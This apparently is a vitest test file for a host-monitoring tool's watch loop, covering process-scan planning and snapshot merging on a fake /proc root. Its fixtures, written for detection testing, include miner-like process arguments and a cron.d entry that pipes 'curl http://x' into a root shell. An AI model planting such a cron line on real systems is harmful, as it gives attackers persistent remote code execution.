// The watch loop's cheap decisions, on a fake root's /proc: a process gone by the second look costs
// no scan, a program already seen clean with the same argv is not looked at again, a process a
// finding names is, and a quick look merges the new processes into the last snapshot (gone ones out).
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Finding } from '../model/finding.js';
import type { ProcessInfo, Snapshot } from '../snapshot/schema.js';
import { HostModel, planCycle, type PlanInput } from './watch.js';
import { diffProbes, freshOf, probeRoot, stillThere } from './watch-probe.js';
import { mergeProcesses, mergeSections } from './watch-scan.js';

let root: string;

function addProcess(pid: number, exe: string, argv: string[]): void {
  const dir = path.join(root, 'proc', String(pid));
  mkdirSync(dir, { recursive: true });
  symlinkSync(path.join(root, exe), path.join(dir, 'exe'));
  writeFileSync(path.join(dir, 'cmdline'), argv.join('\0') + '\0');
}
const removeProcess = (pid: number) => rmSync(path.join(root, 'proc', String(pid)), { recursive: true });
const proc = (pid: number) => ({ pid }) as ProcessInfo;
const base = (pids: number[]) =>
  ({ processes: pids.map(proc), sockets: [], collection: [] }) as unknown as Snapshot;

beforeEach(() => {
  root = mkdtempSync(path.join(os.tmpdir(), 'mh-watch-cycle-'));
  mkdirSync(path.join(root, 'bin'));
  for (const name of ['sh', 'worker', 'xmrig-lookalike']) writeFileSync(path.join(root, 'bin', name), name);
  addProcess(1, 'bin/sh', ['/sbin/init']);
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

/** Probes, lets `change` happen, probes again, lets `meanwhile` happen, and plans the cycle. */
function cycle(model: HostModel, change: () => void, meanwhile: () => void = () => {}) {
  const before = probeRoot(root);
  change();
  const probe = probeRoot(root);
  const fresh = freshOf(before, probe);
  meanwhile();
  const input: PlanInput = {
    diff: diffProbes(before, probe),
    lasting: stillThere(root, fresh),
    freshCount: fresh.pids.size,
    probe,
    hasFindings: false,
    pendingMisses: false,
    reloaded: undefined,
    fullDue: false,
  };
  return { plan: planCycle(root, model, input), probe };
}

describe('the watch cycle', () => {
  it('looks at a new process that lasts, and ignores one gone by the second look', () => {
    const model = new HostModel(root);
    model.base = base([1]);
    const { plan } = cycle(
      model,
      () => {
        addProcess(200, 'bin/xmrig-lookalike', ['./xmrig', '-o', 'pool:3333']);
        addProcess(300, 'bin/sh', ['sh', '-c', 'true']);
      },
      () => removeProcess(300),
    );
    expect(plan.kind).toBe('quick');
    expect(plan.pids).toEqual([200]);

    // Only short-lived processes: no scan at all.
    const quiet = cycle(
      model,
      () => addProcess(301, 'bin/sh', ['sh', '-c', 'date']),
      () => removeProcess(301),
    );
    expect(quiet.plan.kind).toBe('none');
  });

  it('does not look again at a program seen clean with the same argv, but does at a new argv', () => {
    const model = new HostModel(root);
    model.base = base([1]);
    const first = cycle(model, () => addProcess(400, 'bin/worker', ['worker', '--queue', 'mail']));
    expect(first.plan.pids).toEqual([400]);
    model.learn([proc(400)], [], first.probe);

    const again = cycle(model, () => addProcess(401, 'bin/worker', ['worker', '--queue', 'mail']));
    expect(again.plan.kind).toBe('none');
    const other = cycle(model, () =>
      addProcess(402, 'bin/worker', ['worker', '--queue', 'pool.example:3333']),
    );
    expect(other.plan.pids).toEqual([402]);
  });

  it('looks again at a program a finding named: its new process may be the miner again', () => {
    const model = new HostModel(root);
    model.base = base([1]);
    const first = cycle(model, () => addProcess(500, 'bin/xmrig-lookalike', ['./x', '--donate-level', '1']));
    const finding = { fingerprint: 'f1', evidence: [{ type: 'process', pid: 500 }] } as unknown as Finding;
    model.learn([proc(500)], [finding], first.probe);
    const next = cycle(model, () => addProcess(501, 'bin/xmrig-lookalike', ['./x', '--donate-level', '1']));
    expect(next.plan.pids).toEqual([501]);
  });

  it('answers a persistence change at once, and plans a full scan at the start', () => {
    const model = new HostModel(root);
    const start = cycle(model, () => {});
    expect(start.plan.kind).toBe('full');
    model.base = base([1]);
    const { plan } = cycle(model, () => {
      mkdirSync(path.join(root, 'etc', 'cron.d'), { recursive: true });
      writeFileSync(path.join(root, 'etc', 'cron.d', 'x'), '* * * * * root curl http://x | sh\n');
    });
    expect(plan.kind).toBe('quick');
    expect(plan.places).toContain('etc/cron.d');
  });
});

describe('merging a quick look into the last snapshot', () => {
  it('adds the new processes, drops the gone ones, and keeps the sockets of the living', () => {
    const last = {
      ...base([1, 2, 3]),
      sockets: [
        { inode: 10, pids: [2], state: 'ESTABLISHED' },
        { inode: 11, pids: [3], state: 'ESTABLISHED' },
      ],
      persistence: { marker: 'last' },
    } as unknown as Snapshot;
    const quick = {
      ...base([7]),
      sockets: [
        { inode: 10, pids: [], state: 'ESTABLISHED' },
        { inode: 12, pids: [7], state: 'ESTABLISHED' },
      ],
    } as unknown as Snapshot;
    const alive = { pids: new Set([1, 2, 7]), socketInodes: new Set([10, 12]) };
    const merged = mergeProcesses(last, quick, alive);
    expect(merged.processes!.map((p) => p.pid)).toEqual([1, 2, 7]);
    expect(merged.sockets!.map((s) => [s.inode, s.pids])).toEqual([
      [10, [2]],
      [12, [7]],
    ]);
    expect((merged as unknown as { persistence: unknown }).persistence).toEqual({ marker: 'last' });
  });

  it('replaces the sections of the collectors that ran, and keeps a failed one’s last', () => {
    const last = {
      ...base([1]),
      persistence: { marker: 'last' },
      hostsFile: { marker: 'last' },
      collection: [{ collector: 'linux.persistence', sections: ['persistence'], status: 'ok' }],
    } as unknown as Snapshot;
    const quick = {
      persistence: { marker: 'new' },
      collection: [
        { collector: 'linux.persistence', sections: ['persistence'], status: 'ok', note: 'new' },
        { collector: 'linux.hosts-file', sections: ['hosts-file'], status: 'failed' },
      ],
    } as unknown as Snapshot;
    const merged = mergeSections(last, quick) as unknown as Record<string, { marker: string }>;
    expect(merged.persistence!.marker).toBe('new');
    expect(merged.hostsFile!.marker).toBe('last');
    expect(merged.processes).toEqual([proc(1)]);
  });
});
